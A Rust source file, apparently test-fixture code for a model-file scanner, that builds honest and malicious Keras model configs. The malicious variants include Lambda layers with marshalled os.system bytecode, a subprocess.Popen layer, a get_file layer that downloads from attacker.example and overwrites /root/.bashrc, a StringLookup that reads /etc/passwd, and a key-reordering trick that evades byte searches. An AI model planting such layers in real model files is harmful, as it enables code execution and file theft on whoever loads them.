//! Keras model configs (the JSON a `.keras` archive and a legacy `.h5` file carry), honest and with the odd
//! layers attacks use. A leaf shared by the `.keras` generator (`keras`) and the HDF5 writer (`hdf5`).

use serde_json::{json, Value};

/// Which config [`sequential_config`] writes.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Variant {
    /// Input, Dense, Dropout, Dense with Keras modules.
    Honest,
    /// A keras_hub backbone (allowed module) around Dense layers.
    KerasHub,
    /// tf.keras 2 Lambda: `function` = `[base64 code, null, null]`.
    LambdaList,
    /// Keras 3 Lambda: `function` = `{"class_name": "__lambda__", "config": {"code": ...}}`.
    Lambda3,
    /// Keras 3 function object `os.system` as a Lambda's function.
    FunctionOs,
    /// A layer class imported from `subprocess` (`Popen`).
    ModuleImport,
    /// A layer class from a user package (`acme_layers`).
    CustomModule,
    /// A `TFSMLayer` loading `/tmp/other_model`.
    Tfsm,
    /// A tf.keras 2 registered custom layer (`Custom>ScaledDense`).
    Registered,
    /// `keras.utils.get_file` deserialized as a layer (the CVE-2025-8747 class): downloads at load time.
    GetFile,
    /// A `StringLookup` whose vocabulary is a path to a host file (the CVE-2025-12058 class).
    VocabularyFile,
    /// The honest twin: a `StringLookup` with its vocabulary inline.
    VocabularyInline,
}

/// A stand-in for `marshal.dumps(code)` of `lambda x: __import__('os').system(cmd) or x`.
pub fn fake_lambda_code(cmd: &str) -> Vec<u8> {
    let mut code = vec![
        0xe3, 1, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 3, 0, 0, 0, 0x43, 0, 0, 0,
    ];
    code.extend_from_slice(b"s\x10\x00\x00\x00t\x00d\x01\x83\x01\xa0\x01|\x00\xa1\x01S\x00");
    code.extend_from_slice(b")\x02N");
    let cmd = &cmd.as_bytes()[..cmd.len().min(255)];
    code.push(b'z');
    code.push(cmd.len() as u8);
    code.extend_from_slice(cmd);
    for name in ["__import__", "os", "system"] {
        code.push(0xda);
        code.push(name.len() as u8);
        code.extend_from_slice(name.as_bytes());
    }
    code.extend_from_slice(
        b"\xa9\x01\xda\x01x\xa9\x00\xfa\x07<stdin>\xda\x08<lambda>\x01\x00\x00\x00",
    );
    code
}

/// Base64 as Python's `codecs.encode(data, "base64")` writes it: standard alphabet, `=` padding, a newline
/// after every 76 characters and at the end.
pub fn base64_lines(data: &[u8]) -> String {
    const ALPHABET: &[u8; 64] = b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
    let mut plain = String::new();
    for chunk in data.chunks(3) {
        let b = [
            chunk[0],
            *chunk.get(1).unwrap_or(&0),
            *chunk.get(2).unwrap_or(&0),
        ];
        let n = (u32::from(b[0]) << 16) | (u32::from(b[1]) << 8) | u32::from(b[2]);
        for i in 0..4 {
            if i <= chunk.len() {
                plain.push(ALPHABET[((n >> (18 - 6 * i)) & 63) as usize] as char);
            } else {
                plain.push('=');
            }
        }
    }
    let mut out = String::new();
    for (i, c) in plain.chars().enumerate() {
        if i > 0 && i % 76 == 0 {
            out.push('\n');
        }
        out.push(c);
    }
    out.push('\n');
    out
}

fn initializer(class: &str) -> Value {
    json!({"module": "keras.initializers", "class_name": class, "config": {"seed": null}, "registered_name": null})
}

fn dense(name: &str, units: u32, activation: &str) -> Value {
    json!({
        "module": "keras.layers", "class_name": "Dense", "registered_name": null,
        "config": {
            "name": name, "trainable": true, "dtype": "float32", "units": units, "activation": activation,
            "use_bias": true, "kernel_initializer": initializer("GlorotUniform"),
            "bias_initializer": {"module": "keras.initializers", "class_name": "Zeros", "config": {}, "registered_name": null},
            "kernel_regularizer": null, "bias_regularizer": null, "kernel_constraint": null, "bias_constraint": null
        },
        "build_config": {"input_shape": [null, 16]}
    })
}

fn input_layer() -> Value {
    json!({
        "module": "keras.layers", "class_name": "InputLayer", "registered_name": null,
        "config": {"batch_shape": [null, 16], "dtype": "float32", "sparse": false, "name": "input_layer"}
    })
}

fn dropout() -> Value {
    json!({"module": "keras.layers", "class_name": "Dropout", "registered_name": null,
           "config": {"name": "dropout", "trainable": true, "dtype": "float32", "rate": 0.2, "seed": null}})
}

/// The odd layer of a variant (`None` for honest).
fn special_layer(variant: Variant) -> Option<Value> {
    let code = base64_lines(&fake_lambda_code("echo pwned"));
    Some(match variant {
        Variant::Honest => return None,
        Variant::KerasHub => json!({
            "module": "keras_hub.src.models.bert.bert_backbone", "class_name": "BertBackbone",
            "registered_name": "keras_hub>BertBackbone", "config": {"name": "bert_backbone", "vocabulary_size": 30522}
        }),
        Variant::LambdaList => json!({
            "class_name": "Lambda",
            "config": {"name": "lambda", "trainable": true, "dtype": "float32",
                       "function": [code, null, null], "function_type": "lambda", "module": "__main__",
                       "output_shape": null, "output_shape_type": "raw", "output_shape_module": null,
                       "arguments": {}}
        }),
        Variant::Lambda3 => json!({
            "module": "keras.layers", "class_name": "Lambda", "registered_name": null,
            "config": {"name": "lambda", "trainable": true, "dtype": "float32",
                       "function": {"class_name": "__lambda__", "config": {"code": code, "defaults": null, "closure": null}},
                       "arguments": {}}
        }),
        Variant::FunctionOs => json!({
            "module": "keras.layers", "class_name": "Lambda", "registered_name": null,
            "config": {"name": "lambda", "trainable": true, "dtype": "float32",
                       "function": {"module": "os", "class_name": "function", "config": "system", "registered_name": "function"},
                       "arguments": {}}
        }),
        Variant::ModuleImport => json!({
            "module": "subprocess", "class_name": "Popen", "registered_name": null,
            "config": {"args": ["echo", "pwned"], "name": "popen"}
        }),
        Variant::CustomModule => json!({
            "module": "acme_layers.attention", "class_name": "GatedAttention", "registered_name": "acme>GatedAttention",
            "config": {"name": "gated_attention", "units": 16}
        }),
        Variant::Tfsm => json!({
            "module": "keras.layers", "class_name": "TFSMLayer", "registered_name": null,
            "config": {"name": "tfsm_layer", "filepath": "/tmp/other_model", "call_endpoint": "serving_default"}
        }),
        Variant::Registered => json!({
            "class_name": "Custom>ScaledDense",
            "config": {"name": "scaled_dense", "units": 16, "scale": 0.5}
        }),
        Variant::GetFile => json!({
            "module": "keras.utils", "class_name": "get_file", "registered_name": null,
            "config": {"fname": "/root/.bashrc", "origin": "https://attacker.example/payload", "cache_dir": "/"}
        }),
        Variant::VocabularyFile => json!({
            "module": "keras.layers", "class_name": "StringLookup", "registered_name": null,
            "config": {"name": "string_lookup", "vocabulary": "/etc/passwd", "num_oov_indices": 1}
        }),
        Variant::VocabularyInline => json!({
            "module": "keras.layers", "class_name": "StringLookup", "registered_name": null,
            "config": {"name": "string_lookup", "vocabulary": ["cat", "dog"], "num_oov_indices": 1}
        }),
    })
}

/// The same config with every object's keys reordered so that `config` comes before `class_name` (Keras
/// reads keys by name; byte searches that expect `{"class_name"` first do not).
pub fn config_first(config: &str) -> String {
    fn reorder(v: Value) -> Value {
        match v {
            Value::Object(map) => {
                let mut out = serde_json::Map::new();
                let mut rest: Vec<(String, Value)> = map.into_iter().collect();
                rest.sort_by_key(|(k, _)| k != "config");
                for (k, v) in rest {
                    out.insert(k, reorder(v));
                }
                Value::Object(out)
            }
            Value::Array(items) => Value::Array(items.into_iter().map(reorder).collect()),
            other => other,
        }
    }
    let value: Value = serde_json::from_str(config).expect("generated configs are JSON");
    reorder(value).to_string()
}

/// A Sequential model config (JSON text) with an input, Dense, Dropout and Dense layers, plus the odd layer
/// of `variant` after the first Dense. tf.keras-only variants use the tf.keras 2 layout (no `module` keys).
pub fn sequential_config(variant: Variant) -> String {
    let mut layers = vec![input_layer(), dense("dense", 32, "relu")];
    layers.extend(special_layer(variant));
    layers.push(dropout());
    layers.push(dense("dense_1", 10, "softmax"));
    let tf_keras = matches!(variant, Variant::LambdaList | Variant::Registered);
    let config = if tf_keras {
        json!({"class_name": "Sequential", "config": {"name": "sequential", "layers": layers}})
    } else {
        json!({
            "module": "keras", "class_name": "Sequential", "registered_name": null,
            "config": {"name": "sequential", "trainable": true, "dtype": "float32", "layers": layers},
            "build_config": {"input_shape": [null, 16]},
            "compile_config": {
                "optimizer": {"module": "keras.optimizers", "class_name": "Adam", "config": {"name": "adam", "learning_rate": 0.001}, "registered_name": null},
                "loss": "sparse_categorical_crossentropy", "metrics": ["accuracy"]
            }
        })
    };
    config.to_string()
}
